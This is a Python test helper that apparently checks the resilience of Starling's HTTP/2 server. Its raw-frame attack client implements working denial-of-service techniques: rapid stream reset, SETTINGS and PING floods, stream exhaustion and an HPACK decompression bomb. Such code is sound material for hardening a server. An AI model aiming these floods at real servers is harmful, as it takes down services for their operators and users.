#!/usr/bin/env python3
"""Real HTTP/2 clients for Starling's transport tests.

  h2_client.py httpx URL [CA]           one GET with httpx (http2=True); prints "<http_version> <status> <body>"
  h2_client.py ATTACK HOST PORT [CA]    a hostile raw-frame client (hyperframe + hpack); prints what the server did

Attacks: garbage, http1 (each on BURST_CONNECTIONS connections in a row), too_many_streams, rapid_reset, settings_flood, ping_flood, hpack_bomb;
also half_close (a polite client that shuts down its sending side after its requests).
Each prints one line "result=<what happened>" (goaway code, refused streams, status...) and exits 0 when it
could run; the Swift test decides whether the server's answer is right.
"""
import socket
import ssl
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def httpx_get(url, ca):
    import httpx
    verify = ca if ca else True
    with httpx.Client(http2=True, verify=verify, timeout=10) as client:
        response = client.get(url)
        print(f"{response.http_version} {response.status_code} {response.text}")


def connect(host, port, ca):
    raw = socket.create_connection((host, int(port)), timeout=10)
    if not ca:
        return raw
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(raw, server_hostname=host)


def read_frames(sock, deadline):
    """Yields frames until the connection closes or the deadline passes."""
    from hyperframe.frame import Frame
    buffer = b""
    while time.time() < deadline:
        try:
            sock.settimeout(max(0.05, deadline - time.time()))
            data = sock.recv(65536)
        except socket.timeout:
            return
        except (ConnectionResetError, ssl.SSLError, OSError):
            yield ("closed", None)
            return
        if not data:
            yield ("closed", None)
            return
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            yield ("frame", frame)


def handshake(sock):
    from hyperframe.frame import SettingsFrame
    sock.sendall(PREFACE + SettingsFrame(0).serialize())


def headers_block(encoder, path, method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", "http"), (":authority", "localhost"),
                           (":path", path)] + list(extra))


def summarize(sock, seconds=5.0, want_streams=()):
    """Reads until GOAWAY/close; returns (goaway code or None, closed, reset stream codes, statuses)."""
    from hyperframe.frame import GoAwayFrame, RstStreamFrame, HeadersFrame
    from hpack import Decoder
    decoder = Decoder()
    decoder.max_allowed_table_size = 65536
    goaway = None
    resets = {}
    statuses = {}
    closed = False
    for kind, frame in read_frames(sock, time.time() + seconds):
        if kind == "closed":
            closed = True
            break
        if isinstance(frame, GoAwayFrame):
            goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            for name, value in decoder.decode(frame.data):
                if name in (b":status", ":status"):
                    statuses[frame.stream_id] = int(value)
        if want_streams and all(s in statuses or s in resets for s in want_streams):
            break
    return goaway, closed, resets, statuses


# The connection-level attacks that the server ends at once (garbage, http1) are repeated on this many
# connections one after another, so that the attack lasts long enough for the test's good client to be served
# during it.
BURST_CONNECTIONS = 20


def garbage_once(host, port, ca):
    sock = connect(host, port, ca)
    try:
        sock.sendall(b"\x16\x03garbage that is not an HTTP/2 preface at all\r\n" * 4)
        goaway, closed, _, _ = summarize(sock)
        return f"goaway:{goaway} closed:{closed}"
    finally:
        sock.close()


def http1_once(host, port, ca):
    sock = connect(host, port, ca)
    try:
        sock.sendall(b"GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n")
        data = b""
        sock.settimeout(5)
        try:
            while True:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                data += chunk
        except (socket.timeout, OSError):
            pass
        return data.split(b"\r\n", 1)[0].decode(errors="replace")
    finally:
        sock.close()


def attack(name, host, port, ca):
    from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame, PingFrame, DataFrame
    from hpack import Encoder
    if name in ("garbage", "http1"):
        # Every distinct outcome over the burst, sorted: one value when all connections were treated alike.
        once = garbage_once if name == "garbage" else http1_once
        outcomes = sorted({once(host, port, ca) for _ in range(BURST_CONNECTIONS)})
        print("result=" + " | ".join(outcomes))
        return
    sock = connect(host, port, ca)
    handshake(sock)
    encoder = Encoder()
    if name == "too_many_streams":
        # Opens 400 streams without ending them, ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS.
        frames = b""
        for i in range(400):
            frames += HeadersFrame(1 + 2 * i, data=headers_block(encoder, "/echo", "POST"),
                                   flags=["END_HEADERS"]).serialize()
        sock.sendall(frames)
        goaway, closed, resets, _ = summarize(sock, seconds=3)
        refused = sum(1 for code in resets.values() if code in (7, 1))  # REFUSED_STREAM or PROTOCOL_ERROR
        print(f"result=goaway:{goaway} closed:{closed} refused:{refused}")
    elif name == "rapid_reset":
        frames = b""
        for i in range(5000):
            stream = 1 + 2 * i
            frames += HeadersFrame(stream, data=headers_block(encoder, "/slow/100"),
                                   flags=["END_HEADERS", "END_STREAM"]).serialize()
            frames += RstStreamFrame(stream, error_code=8).serialize()
        try:
            sock.sendall(frames)
        except OSError:
            pass
        goaway, closed, _, _ = summarize(sock)
        print(f"result=goaway:{goaway} closed:{closed}")
    elif name in ("settings_flood", "ping_flood"):
        frame = SettingsFrame(0) if name == "settings_flood" else PingFrame(0, opaque_data=b"12345678")
        try:
            sock.sendall(frame.serialize() * 20000)
        except OSError:
            pass
        goaway, closed, _, _ = summarize(sock)
        print(f"result=goaway:{goaway} closed:{closed}")
    elif name == "half_close":
        # Two complete requests (one answered inline, one by a slow async handler), then shutdown(SHUT_WR):
        # both answers must still arrive before the server closes.
        frames = HeadersFrame(1, data=headers_block(encoder, "/hello"), flags=["END_HEADERS", "END_STREAM"]).serialize()
        frames += HeadersFrame(3, data=headers_block(encoder, "/slow/300"), flags=["END_HEADERS", "END_STREAM"]).serialize()
        sock.sendall(frames)
        sock.shutdown(socket.SHUT_WR)
        goaway, closed, resets, statuses = summarize(sock, seconds=60)  # returns at the close; generous for loaded CI
        print(f"result=closed:{closed} s1:{statuses.get(1)} s3:{statuses.get(3)} resets:{len(resets)}")
    elif name == "hpack_bomb":
        # One 4 KB header enters the dynamic table; then a block of 2000 one-byte references to it
        # decodes to about 8 MB of headers.
        big = ("x-bomb", "b" * 4000)
        first = headers_block(encoder, "/hello", extra=[big])
        sock.sendall(HeadersFrame(1, data=first, flags=["END_HEADERS", "END_STREAM"]).serialize())
        index = bytes([0x80 | 62])  # indexed field: the newest dynamic-table entry
        # The pseudo-headers go literal and never indexed: indexed ones (:authority, :path) would enter the table
        # and evict x-bomb, and index 62 would then repeat :path 2000 times — a malformed request that nghttp2
        # resets with PROTOCOL_ERROR before the server's header-list limit is ever reached.
        from hpack import NeverIndexedHeaderTuple
        pseudo = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/hello")]
        block = encoder.encode([NeverIndexedHeaderTuple(n, v) for n, v in pseudo]) + index * 2000
        sock.sendall(HeadersFrame(3, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        goaway, closed, resets, statuses = summarize(sock, seconds=5, want_streams=(1, 3))
        print(f"result=goaway:{goaway} closed:{closed} s1:{statuses.get(1)} s3:{statuses.get(3, resets.get(3))}")
    else:
        print(f"unknown attack {name}", file=sys.stderr)
        sys.exit(2)


def main():
    if len(sys.argv) < 3:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    if sys.argv[1] == "httpx":
        httpx_get(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
    else:
        attack(sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else None)


if __name__ == "__main__":
    main()
